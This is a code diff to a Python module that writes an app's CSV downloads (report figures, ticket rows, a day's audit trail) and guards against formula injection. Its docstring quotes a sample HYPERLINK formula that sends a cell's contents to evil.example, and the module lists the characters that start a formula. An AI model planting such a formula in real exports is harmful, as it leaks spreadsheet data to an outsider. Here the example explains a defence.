@@ -1,5 +1,7 @@
-"""The one CSV writer of every download (reports, audit trail), and the rule that keeps a text
-cell from being read as a formula when someone opens the file in a spreadsheet.
+"""Every CSV file the app offers is written here: the one writer (`csv_text`), the rule that
+keeps a text cell from being read as a formula when someone opens the file in a spreadsheet,
+and each file's columns and cells — a report's figures and tickets, a day's audit trail. The
+views only hand the text out (web/common.csv_response).
 
 CSV (formula) injection: a service named `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`
 would be a live formula in the supervisor's spreadsheet. Following OWASP, a text cell that
@@ -12,7 +14,17 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from collections.abc import Iterable, Sequence
+
+from sqlalchemy.orm import Session
+
+from ..domain.numbering import site_zone
+from ..domain.reports import Figures, Stats, TicketRecord
+from ..domain.vocabulary import Outcome
+from . import audit
+from .audit import AuditDay
+from .reports import HallReport
 
 #: What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -34,3 +46,177 @@ def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
     writer.writerow([spreadsheet_cell(cell) for cell in header])
     writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
     return out.getvalue()
+
+
+# -- the files ------------------------------------------------------------------------------
+
+#: The counts of a report's group, in the order of the API's `Figures` (a test checks it).
+FIGURE_COLUMNS = [
+    "issued",
+    "called",
+    "served",
+    "no_show",
+    "cancelled",
+    "expired",
+    "transferred",
+    "refused_quota",
+    "closed_early",
+]
+DURATION_COLUMNS = [
+    f"{kind}_{stat}_s" for kind in ("wait", "walk", "service") for stat in ("mean", "median", "p90")
+]
+#: Served tickets by outcome (issue 18), then the incomplete-documents rate (0–1).
+OUTCOME_COLUMNS = [*(f"outcome_{o.value}" for o in Outcome), "incomplete_documents_rate"]
+TICKET_COLUMNS = [
+    "code",
+    "service",
+    "service_day",
+    "number",
+    "priority",
+    "channel",
+    "state",
+    "final_service",
+    "counter",
+    "staff",
+    "issued_at",
+    "admitted_at",
+    "first_called_at",
+    "last_called_at",
+    "started_at",
+    "finished_at",
+    "closed_at",
+    "outside_s",
+    "wait_s",
+    "walk_s",
+    "service_s",
+    "calls",
+    "recalls",
+    "transfers",
+    "outcome",
+]
+AUDIT_COLUMNS = [
+    "at",
+    "kind",
+    "user",
+    "action",
+    "subject",
+    "counter",
+    "service",
+    "from",
+    "to",
+    "detail",
+]
+
+
+def report_aggregates(report: HallReport) -> str:
+    """A report's figures, one row per group: the total, each service, counter, staff member
+    and hour."""
+    rows: list[tuple[str, object, str, Figures]] = [("total", "", "", report.report.totals)]
+    rows += [("service", s.code, s.name_id, f) for s, f in report.service_rows()]
+    rows += [("counter", c.number, c.label, f) for c, f in report.counter_rows()]
+    rows += [("staff", name, name, f) for _, name, f in report.staff_rows()]
+    rows += [("hour", f"{h:02d}", f"{h:02d}:00", f) for h, f in report.hour_rows()]
+    return csv_text(
+        ["group", "key", "name", *FIGURE_COLUMNS, *DURATION_COLUMNS, *OUTCOME_COLUMNS],
+        (
+            [
+                group,
+                key,
+                name,
+                *(getattr(figures, column) for column in FIGURE_COLUMNS),
+                *_stat_cells(figures.wait),
+                *_stat_cells(figures.walk),
+                *_stat_cells(figures.service),
+                *(figures.outcomes[o.value] for o in Outcome),
+                _rate_cell(figures.incomplete_documents_rate),
+            ]
+            for group, key, name, figures in rows
+        ),
+    )
+
+
+def report_tickets(report: HallReport) -> str:
+    """A report's tickets, one row each: codes, outcome, where it ended, every timestamp
+    (local time, ISO 8601 with offset) and every duration in seconds."""
+    return csv_text(TICKET_COLUMNS, (_ticket_cells(report, r) for r in report.report.records))
+
+
+def audit_trail(session: Session, query: AuditDay) -> str:
+    """A day's whole audit trail in order: local times, the raw action and field names, each
+    line's detail as JSON (for spreadsheets and scripts; the page says it in words)."""
+    zone = site_zone(query.site.timezone)
+    return csv_text(
+        AUDIT_COLUMNS,
+        (
+            [
+                entry.at.astimezone(zone).isoformat(timespec="seconds"),
+                entry.kind,
+                entry.user or "",
+                entry.action,
+                entry.subject,
+                "" if entry.counter is None else entry.counter,
+                entry.service or "",
+                entry.from_state or "",
+                entry.to_state or "",
+                json.dumps(entry.detail, ensure_ascii=False, sort_keys=True)
+                if entry.detail
+                else "",
+            ]
+            for entry in audit.every_entry(session, query)
+        ),
+    )
+
+
+def _ticket_cells(report: HallReport, r: TicketRecord) -> list[object]:
+    codes = report.service_codes
+    return [
+        r.ticket.code,
+        codes.get(r.ticket.issued_service_id, ""),
+        r.ticket.service_day.isoformat(),
+        r.ticket.number,
+        r.ticket.priority or "",
+        r.ticket.channel,
+        r.state.value,
+        codes.get(r.final_service_id, ""),
+        report.counter_numbers.get(r.counter_id, "") if r.counter_id else "",
+        report.usernames.get(r.staff_id, "") if r.staff_id else "",
+        *(
+            report.local_iso(t, timespec="seconds") or ""
+            for t in (
+                r.issued_at,
+                r.admitted_at,
+                r.first_called_at,
+                r.last_called_at,
+                r.started_at,
+                r.finished_at,
+                r.closed_at,
+            )
+        ),
+        *(
+            _seconds_cell(v)
+            for v in (
+                r.outside_s,
+                r.durations.wait_s,
+                r.durations.walk_s,
+                r.durations.service_s,
+            )
+        ),
+        r.calls,
+        r.recalls,
+        r.transfers,
+        r.outcome or "",
+    ]
+
+
+def _rate_cell(value: float | None) -> object:
+    return "" if value is None else round(value, 4)
+
+
+def _stat_cells(s: Stats) -> list[object]:
+    return [_seconds_cell(v) for v in (s.mean, s.median, s.p90)]
+
+
+def _seconds_cell(value: float | None) -> object:
+    if value is None:
+        return ""
+    return round(value, 1) if value != int(value) else int(value)
